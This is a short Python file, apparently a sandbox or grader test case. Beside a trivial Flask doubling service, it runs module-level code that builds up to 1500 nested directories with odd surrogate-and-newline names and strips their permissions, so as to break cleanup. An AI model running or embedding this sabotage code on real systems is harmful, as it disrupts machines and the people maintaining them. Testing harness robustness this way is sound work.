"""Leaves folders nested as deep as it can, each without any rights and with names as long and as odd as there are, to
break whoever deletes them.

expect: passed
"""

import os

from flask import Flask

app = Flask(__name__)
reached = {}


@app.get("/double/<int:number>")
def double(number):
    return str(2 * number)


@app.get("/reached")
def report():
    return reached


depth = 0
try:
    while depth < 1500:
        os.mkdir("attack" + "\udcff\n" * 20)
        os.chdir("attack" + "\udcff\n" * 20)
        depth += 1
except OSError:
    pass
for _ in range(depth):
    os.chdir("..")
    os.chmod("attack" + "\udcff\n" * 20, 0)
os.chmod(".", 0)
